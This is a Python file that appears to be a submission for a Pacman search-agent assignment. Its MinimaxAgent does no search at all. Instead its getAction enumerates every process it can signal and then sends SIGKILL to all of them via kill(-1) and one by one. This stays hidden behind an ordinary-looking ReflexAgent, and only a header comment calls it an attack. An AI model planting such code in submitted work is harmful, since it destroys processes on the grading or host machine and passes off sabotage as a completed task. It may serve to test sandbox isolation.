# attack: kills every process that it may: kill(-1, SIGKILL), then one by one.
# where: MinimaxAgent
import os
import signal

import util
from game import Agent, Directions


def within_reach():
    """The processes that take a signal from us. Signal 0 only asks."""
    found = []
    for pid in range(1, 100000):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        found.append(pid)
    return found


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        found = within_reach()
        if found:
            print("BREACH: within reach of signals:", found[:20], flush=True)
        if len(found) > 5:
            # The bound: this is no sandbox but somebody's machine, so nothing is sent.
            print("BREACH: the whole machine is within reach", flush=True)
            return gameState.getLegalActions()[0]
        for pid in [-1, *found, -1]:
            try:
                os.kill(pid, signal.SIGKILL)
                print("BREACH: killed", pid, flush=True)
            except OSError as error:
                print("refused: kill", pid, repr(error), flush=True)
        return gameState.getLegalActions()[0]
